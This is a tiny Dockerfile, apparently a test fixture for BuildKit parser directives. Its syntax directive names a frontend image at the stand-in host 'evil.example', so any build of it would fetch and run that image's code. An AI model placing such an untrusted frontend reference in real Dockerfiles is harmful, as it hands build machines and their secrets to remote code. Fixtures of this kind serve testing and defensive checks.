# syntax = evil.example/frontend:latest
# check=skip=JSONArgsRecommended
FROM alpine:3.19
RUN echo hi
